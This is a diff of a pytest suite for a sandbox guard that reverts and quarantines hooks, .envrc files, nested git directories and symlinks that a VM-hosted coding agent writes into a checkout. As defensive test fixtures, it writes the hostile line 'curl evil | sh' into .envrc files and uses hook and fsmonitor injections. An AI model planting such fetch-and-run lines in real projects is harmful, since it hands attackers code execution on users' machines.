@@ -13,7 +13,7 @@ import pytest
 from opencode_sandbox.app import App
 from opencode_sandbox.cli.render import render_status
 from opencode_sandbox.config.loader import load_settings
-from opencode_sandbox.core.guard import COPY_LIMIT, LINK, REVIEW_FOLDER
+from opencode_sandbox.core.guard import COPY_LIMIT, LINK, OLD_REVIEW_FOLDER
 from opencode_sandbox.errors import ConfigError
 from opencode_sandbox.paths import ToolPaths
 from opencode_sandbox.runtime.types import RuntimeKind
@@ -69,8 +69,13 @@ def write_hook(root: Path, name: str = "pre-commit", text: str = HOOK, mode: int
     return hook
 
 
-def review_folders(root: Path) -> list[Path]:
-    folder = root / REVIEW_FOLDER
+def review_root(app: App) -> Path:
+    """Where the guard keeps what it takes from the checkout: the project's private state folder."""
+    return GuardStore(app.state.project_dir(app.project.slug)).review
+
+
+def review_folders(app: App) -> list[Path]:
+    folder = review_root(app)
     return sorted(path for path in folder.iterdir() if path.is_dir()) if folder.is_dir() else []
 
 
@@ -88,11 +93,13 @@ def test_a_hook_added_while_the_vm_ran_is_shown_reverted_and_kept_for_review(fak
     assert '+touch "$(git rev-parse --show-toplevel)/../hook-ran"' in said
     assert "no terminal to ask on: reverting them" in said
     assert not (checkout / ".githooks/pre-commit").exists()
-    [folder] = review_folders(checkout)
+    [folder] = review_folders(app)
     kept = folder / ".githooks/pre-commit"
     assert kept.read_text() == HOOK
     assert kept.stat().st_mode & 0o111 == 0, "nothing kept for review may run"
-    assert (checkout / REVIEW_FOLDER / ".gitignore").read_text().endswith("*\n")
+    assert review_root(app).stat().st_mode & 0o777 == 0o700, "the review folder is private"
+    assert f"the VM's versions are kept in {folder}" in said
+    assert not (checkout / OLD_REVIEW_FOLDER).exists(), "nothing of the guard's lies in the checkout"
     (checkout / "file").write_text("x")
     git(checkout, "add", "file")
     assert git(checkout, "commit", "-q", "-m", "after").returncode == 0
@@ -118,7 +125,7 @@ def test_a_changed_file_and_a_removed_hook_come_back_with_content_and_mode(fake:
     assert ".githooks/pre-push: removed (was mode 0755, 17 bytes)" in said
     assert (checkout / ".pre-commit-config.yaml").read_text() == config_before
     assert (checkout / ".githooks/pre-push").stat().st_mode & 0o777 == 0o755
-    [folder] = review_folders(checkout)
+    [folder] = review_folders(app)
     assert "fsmonitor" in (folder / ".pre-commit-config.yaml").read_text()
 
 
@@ -128,7 +135,7 @@ def test_the_same_change_twice_gets_two_review_folders(fake: FakeRuntime, checko
     for _ in range(2):
         (checkout / ".envrc").write_text("curl evil | sh\n")
         review(app, vm_may_write_after=True)
-    assert len(review_folders(checkout)) == 2, "a review copy is never overwritten"
+    assert len(review_folders(app)) == 2, "a review copy is never overwritten"
     assert (checkout / ".envrc").read_text() == "export A=1\n"
 
 
@@ -159,7 +166,7 @@ def test_on_a_terminal_keeping_records_the_vms_version(fake: FakeRuntime, checko
 
     outcome = review(app, vm_may_write_after=True, ask=keep)
 
-    assert not outcome.reverted and questions == [f"Revert them? The VM's versions are kept under {REVIEW_FOLDER}/"]
+    assert not outcome.reverted and questions == [f"Revert them? The VM's versions are kept under {review_root(app)}/"]
     assert (checkout / ".envrc").read_text() == "export A=3\n"
     assert status(app).by_vm == ()
     assert review(app, vm_may_write_after=True, ask=keep).by_vm == () and len(questions) == 1
@@ -253,7 +260,7 @@ def test_a_file_too_big_to_copy_is_moved_aside_and_said(fake: FakeRuntime, check
     said = messages(app)
     assert "binary or not kept" in said and "its earlier version was not kept (over 1 MiB" in said
     assert not (folder / "big.bin").exists()
-    [kept] = review_folders(checkout)
+    [kept] = review_folders(app)
     assert (kept / ".opencode-sandbox/big.bin").read_bytes() == b"\1" * 10
 
 
@@ -271,7 +278,7 @@ def test_a_worktree_pointer_is_the_hosts_and_a_git_file_the_vm_writes_is_moved_a
 
     assert (tree / ".git").read_text() == pointer
     assert not (tree / "sub" / ".git").exists() and not outcome.by_vm
-    assert "sub/.git -> .opencode-sandbox/guard/" in messages(app)
+    assert f"sub/.git -> {review_root(app)}/" in messages(app)
 
 
 def test_guarded_paths_adds_entries_and_is_refused_in_the_checkout(fake: FakeRuntime, checkout: Path,
@@ -403,21 +410,45 @@ def test_a_start_makes_the_tool_folder_to_present_it_read_only(tmp_path: Path, s
         fake.close()
 
 
-def test_a_link_in_place_of_the_review_folder_is_neither_guarded_nor_followed(fake: FakeRuntime, checkout: Path,
-                                                                             tmp_path: Path) -> None:
+def test_a_link_where_older_versions_kept_copies_is_guarded_like_the_rest_and_never_followed(
+        fake: FakeRuntime, checkout: Path, tmp_path: Path) -> None:
     outside = tmp_path / "outside-review"
     outside.mkdir()
     (checkout / ".opencode-sandbox").mkdir()
     app = app_on(fake, checkout)
     review(app, vm_may_write_after=True)
-    (checkout / REVIEW_FOLDER).symlink_to(outside)
+    (checkout / OLD_REVIEW_FOLDER).symlink_to(outside)
     (checkout / ".envrc").write_text("by the VM\n")
 
     outcome = review(app, vm_may_write_after=True)
 
-    assert [change.path for change in outcome.by_vm] == [".envrc"]
+    assert [change.path for change in outcome.by_vm] == [".envrc", OLD_REVIEW_FOLDER]
     assert list(outside.iterdir()) == [], "the VM's version went nowhere near the link's target"
-    assert (checkout / REVIEW_FOLDER).is_dir() and not (checkout / REVIEW_FOLDER).is_symlink()
+    assert not (checkout / OLD_REVIEW_FOLDER).exists() and not (checkout / OLD_REVIEW_FOLDER).is_symlink()
+    [kept] = review_folders(app)
+    assert (kept / OLD_REVIEW_FOLDER).is_symlink() and (kept / ".envrc").read_text() == "by the VM\n"
+
+
+def test_what_an_older_version_kept_in_the_checkout_is_the_users_and_guarded_like_the_rest(
+        fake: FakeRuntime, checkout: Path) -> None:
+    """The folder older versions kept copies in is left as it is, and judged: the VM can no longer
+    hide a hook or a repository there."""
+    old = checkout / OLD_REVIEW_FOLDER / "20261201T000000Z"
+    git(checkout, "init", "-q", str(old / "sub"))  # a nested repository an older version moved there
+    (old / ".envrc").write_text("an older VM's\n")
+    app = app_on(fake, checkout)
+    review(app, vm_may_write_after=True)  # the first start of this version
+    assert not review_folders(app) and (old / "sub/.git").is_dir() and (old / ".envrc").exists()
+    (old / ".envrc").write_text("curl evil | sh\n")
+    git(checkout, "init", "-q", str(old / "other"))
+
+    outcome = review(app, vm_may_write_after=True)
+
+    assert [change.path for change in outcome.by_vm] == [f"{OLD_REVIEW_FOLDER}/20261201T000000Z/.envrc"]
+    assert (old / ".envrc").read_text() == "an older VM's\n"
+    assert not (old / "other/.git").exists(), "a git directory made there is moved aside like any other"
+    assert (old / "sub/.git").is_dir(), "the user's files are left alone"
+    assert f"{OLD_REVIEW_FOLDER}/20261201T000000Z/other/.git -> {review_root(app)}/" in messages(app)
 
 
 def test_a_file_the_user_cannot_read_is_reported_and_moved_aside(fake: FakeRuntime, checkout: Path,
